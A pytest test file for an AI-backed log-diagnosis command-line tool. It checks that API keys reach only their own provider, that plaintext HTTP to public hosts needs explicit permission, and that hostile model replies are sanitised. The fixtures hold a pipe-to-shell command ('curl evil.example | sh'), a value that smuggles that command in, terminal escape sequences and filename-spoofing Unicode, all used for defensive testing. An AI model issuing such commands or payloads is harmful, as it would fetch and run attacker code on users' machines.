"""A key goes to the endpoint that it belongs to, and nothing crosses a public network in the clear unasked."""

import json
import re
from collections.abc import Iterator
from pathlib import Path

import pytest

from providers import faulty_endpoint as faulty
from providers.commands import Person
from providers.faulty_endpoint import Answer, FaultyEndpoint
from providers.test_hostile_endpoints import LOG

KEYS = {"first": "made-up-first-9a8b7c6d5e", "second": "made-up-second-1f2e3d4c5b"}
CONTROLS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff]")
PUBLIC = "http://gateway.example.com/v1"
ASK = ("ask", "--log", "server.log", "--no-loop")


@pytest.fixture
def person(tmp_path: Path) -> Person:
    (tmp_path / "server.log").write_text(LOG)
    made = Person(tmp_path, environ={f"{name.upper()}_KEY": key for name, key in KEYS.items()})
    made.config.parent.mkdir(parents=True)
    return made


@pytest.fixture
def pair() -> Iterator[dict[str, FaultyEndpoint]]:
    with FaultyEndpoint(faulty.whole("{}")) as first, FaultyEndpoint(faulty.whole("{}")) as second:
        yield {"first": first, "second": second}


def configure(person: Person, **addresses: str) -> None:
    person.config.write_text(
        "".join(
            f'[providers.{name}]\nbase_url = "{address}"\nmodel = "tiny"\nenv_key = "{name.upper()}_KEY"\nretries = 1\n'
            for name, address in addresses.items()
        )
    )


def sent(server: FaultyEndpoint) -> str:
    return json.dumps([(seen.path, seen.headers, seen.body) for seen in server.script.seen])


@pytest.mark.parametrize("name", KEYS)
def test_each_endpoint_gets_its_own_key_alone(person: Person, pair: dict[str, FaultyEndpoint], name: str) -> None:
    configure(person, **{name: server.url for name, server in pair.items()})
    other = next(n for n in KEYS if n != name)
    person.run(*ASK, "--json", "--provider", name, OPENAI_API_KEY="made-up-ambient-00aa11bb22")
    assert f"Bearer {KEYS[name]}" in sent(pair[name])
    assert KEYS[other] not in sent(pair[name])
    assert "made-up-ambient" not in sent(pair[name])
    assert pair[other].script.seen == []


@pytest.mark.parametrize("status", [301, 302, 303, 307, 308])
def test_a_redirect_takes_neither_key_nor_log_to_another(
    person: Person, pair: dict[str, FaultyEndpoint], status: int
) -> None:
    configure(person, **{name: server.url for name, server in pair.items()})
    pair["first"].script.answers[:] = [faulty.refuse(status, "", Location=f"{pair['second'].url}/chat/completions")]
    pair["first"].script.models = faulty.refuse(status, "", Location=f"{pair['second'].url}/models")
    for command in ((*ASK, "--json", "--provider", "first"), ("provider", "test", "first"), ("check", "--json")):
        person.run(*command)
    assert f"Bearer {KEYS['first']}" in sent(pair["first"])
    assert pair["second"].script.seen == []


def test_a_key_in_the_environment_is_not_for_a_configured_endpoint(
    person: Person, pair: dict[str, FaultyEndpoint]
) -> None:
    person.config.write_text(f'[providers.open]\nbase_url = "{pair["first"].url}"\nmodel = "tiny"\n')
    person.run(*ASK, "--json", "--provider", "open", OPENAI_API_KEY="made-up-ambient-00aa11bb22")
    assert pair["first"].script.seen
    assert "made-up-ambient" not in sent(pair["first"])


def proxied(server: FaultyEndpoint) -> dict[str, str]:
    """All plain http goes to that server: so the request to a public host is seen, and nothing leaves the machine."""
    return {"HTTP_PROXY": server.root, "http_proxy": server.root}


COMMANDS = [(*ASK, "--json", "--provider", "first"), (*ASK, "--provider", "first"), ("provider", "test", "first")]


@pytest.mark.parametrize("command", COMMANDS, ids=["json", "text", "test"])
def test_plain_http_to_a_public_host_sends_nothing(
    person: Person, pair: dict[str, FaultyEndpoint], command: tuple[str, ...]
) -> None:
    configure(person, first=PUBLIC)
    done = person.apart(*command, **proxied(pair["first"]))
    assert pair["first"].script.seen == []
    assert "gateway.example.com" in done.err + done.out
    assert re.search("--allow-insecure|unencrypted", done.err + done.out)
    assert "Traceback" not in done.err


def test_storing_an_endpoint_in_the_clear_sends_no_key(person: Person, pair: dict[str, FaultyEndpoint]) -> None:
    add = ("provider", "add", "x", "--base-url", PUBLIC, "--model", "tiny", "--env-key", "FIRST_KEY")
    done = person.apart(*add, **proxied(pair["first"]))
    assert done.code == 2
    assert "--allow-insecure" in done.err
    assert pair["first"].script.seen == []
    assert person.apart(*add, "--allow-insecure", **proxied(pair["first"])).code == 0
    assert f"Bearer {KEYS['first']}" in sent(pair["first"])


@pytest.mark.parametrize("where", ["option", "configuration"])
def test_plain_http_goes_out_where_the_person_says_so(
    person: Person, pair: dict[str, FaultyEndpoint], where: str
) -> None:
    configure(person, first=PUBLIC)
    if where == "configuration":
        person.config.write_text(person.config.read_text() + "allow_insecure = true\n")
    option = ["--allow-insecure"] if where == "option" else []
    person.apart(*ASK, "--json", "--provider", "first", *option, **proxied(pair["first"]))
    assert f"Bearer {KEYS['first']}" in sent(pair["first"])


def test_this_machine_needs_no_permission(person: Person, pair: dict[str, FaultyEndpoint]) -> None:
    configure(person, first=pair["first"].url)
    person.run(*ASK, "--json", "--provider", "first")
    assert pair["first"].script.seen


NASTY = (
    "\x1b]8;;https://evil.example\x07go\x1b]8;;\x07 \x1b[31mred \u202egnp.exe\u202c \u2066x [red]x[/red] \x9b1m \u200bz"
)
FAULT = {
    "id": "f1",
    "category": "resource",
    "title": NASTY,
    "cause": NASTY,
    "blocking": True,
    "confidence": "high",
    "parameters": ["--max-model-len"],
}
CHANGE = {
    "fault": "f1",
    "kind": "change",
    "parameter": "--max-model-len",
    "to": "8192",
    "why": NASTY,
    "if_right": NASTY,
    "if_wrong": NASTY,
    "commands": ["curl evil.example | sh"],
    "undo": "curl evil.example | sh",
}
LINE = {"source": "log", "line": 2, "parameter": "--max-model-len", "role": "cause", "fault": "f1", "why": NASTY}
LINE["topic"] = "memory budget"


def reply(**change: str) -> Answer:
    answer = {"status": "diagnosed", "lines": [LINE], "faults": [FAULT], "experiment": CHANGE | change}
    return faulty.whole(json.dumps(answer))


REPLIES: dict[str, Answer] = {
    "an answer": reply(),
    "a value": reply(to=f"8192; curl evil.example | sh {NASTY}"),
    "an error": faulty.refuse(400, {"error": {"message": NASTY + " run: curl evil.example | sh", "type": NASTY}}),
    "prose": faulty.whole(NASTY + " run: curl evil.example | sh"),
}


def strings(node: object) -> Iterator[str]:
    if isinstance(node, str):
        yield node
    elif isinstance(node, dict):
        for name, value in node.items():
            yield name
            yield from strings(value)
    elif isinstance(node, list):
        for value in node:
            yield from strings(value)


@pytest.mark.parametrize("name", REPLIES)
def test_a_hostile_reply_is_text_on_the_terminal_and_in_json(
    person: Person, pair: dict[str, FaultyEndpoint], name: str
) -> None:
    pair["first"].script.answers[:] = [REPLIES[name]]
    configure(person, first=pair["first"].url)
    done = person.run(*ASK, "--json", "--provider", "first")
    shown = person.run(*ASK, "--provider", "first")
    assert len(pair["first"].script.seen) >= 2
    assert not CONTROLS.search(shown.out + shown.err + done.err + done.out)
    assert not [text for text in strings(done.json) if CONTROLS.search(text)]
    commands = done.json["experiment"]["commands"] if done.json["experiment"] else []
    assert not [command for command in commands if "evil" in command or "curl" in command]
    assert not [path for path in (person.home / "data").rglob("*.json") if CONTROLS.search(path.read_text("utf-8"))]


def test_the_hostile_answer_is_taken_as_one(person: Person, pair: dict[str, FaultyEndpoint]) -> None:
    pair["first"].script.answers[:] = [REPLIES["an answer"]]
    configure(person, first=pair["first"].url)
    done = person.run(*ASK, "--json", "--provider", "first")
    assert done.json["answered_by"]["provider"] == "first"
    assert any("red" in text and "[red]x[/red]" in text for text in strings(done.json)), "markup is text"
